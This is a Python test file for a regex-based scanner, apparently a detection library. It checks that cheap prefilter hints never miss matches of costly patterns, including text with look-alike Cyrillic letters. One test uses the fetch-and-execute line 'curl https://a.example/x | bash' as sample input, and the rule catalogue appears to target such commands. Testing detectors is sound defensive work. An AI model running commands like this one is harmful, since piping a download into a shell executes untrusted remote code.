"""The tests before the costly patterns never rule a match out, nor begin after it."""

import re

import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from pyspark.sql import functions as F

from palisade.functions import hints
from palisade.functions.literals import ODD_CASES
from palisade.operators import catalogue as C
from palisade.operators import scan

PATTERNS = sorted({p for r in C.RULES for p in (r.pattern, r.near) if p} | {C.PRIMITIVE})


def places(*texts, tests):
    return hints._first(pa.array([t.encode() for t in texts], pa.large_binary()), tests).tolist()


@pytest.mark.parametrize("pattern", PATTERNS)
def test_a_match_is_never_ruled_out(pattern):
    loose = hints.loosened(pattern)
    assert loose

    @settings(max_examples=60, deadline=None, database=None, suppress_health_check=list(HealthCheck))
    @given(st.from_regex(re.compile(pattern, re.IGNORECASE)))
    def check(text):
        text = "первая\n" + text.encode("utf-8", "replace").decode()
        match = re.search(pattern, text, re.IGNORECASE)
        ((at,),) = places(text, tests=((loose,),))
        assert not match or re.search(ODD_CASES, text) or 0 <= at <= len(text[: match.start()].encode())

    check()


def test_places():
    tests = ((hints.loosened(r"\bcurl\s+x"),), (hints.loosened("curl"), hints.loosened("bash")), (None,), (hints.loosened(r"[0-9]{2}é"),))
    got = places("é\nsome curl\u00a0x\nbash", "curl", "occurl x", "", "\u212a", "a\n12É", tests=tests)
    assert got == [[3, 3, 0, -1], [-1, -1, 0, -1], [-1, -1, 0, -1], [-1, -1, 0, -1], [0, 0, 0, 0], [-1, -1, 0, 2]]


def test_texts_with_look_alike_letters_have_places_for_both(spark):
    x = spark.createDataFrame([("a\nсurl x",), ("a\ncurl x",), ("нет",), (None,)], "t string")
    got = x.select(hints.places(F.col("t"), ((hints.loosened("curl"),),), ("сн", "ch")).alias("at")).collect()
    assert [r["at"] for r in got] == [[-1, 0], [2], [-1, -1], [-1]]
    assert x.limit(2).select(F.expr(hints.tail_sql("t", "array(2)", 0)).alias("tail")).collect()[1].tail == "curl x"


def test_costly_patterns_see_the_end_of_a_text_only(spark):
    """Every rule's text begins at the line of its first possible match, so that a long text before it costs next to nothing."""
    tests = scan._tests(C.RULES)
    front = "plain words with nothing to find\n" * 1000
    ((*at,),) = places(front + "curl https://a.example/x | bash", tests=tests)
    assert set(at) == {-1, len(front)}
